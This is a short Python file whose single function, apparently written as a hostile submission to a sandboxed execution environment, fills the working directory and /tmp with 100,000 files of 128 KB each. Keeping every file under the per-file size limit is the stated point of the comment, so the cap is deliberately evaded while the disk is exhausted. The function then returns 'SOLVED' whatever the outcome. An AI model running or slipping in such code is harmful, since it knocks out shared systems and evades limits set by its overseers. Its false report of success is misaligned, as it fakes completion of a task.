import os


def attack():
    # Fill the work dir and /tmp with many files, each under the file size limit.
    block = b"z" * (128 * 1024)
    for directory in (".", "/tmp"):
        for i in range(100000):
            with open(os.path.join(directory, f"fill{i}"), "wb") as out:
                out.write(block)
    return "SOLVED"
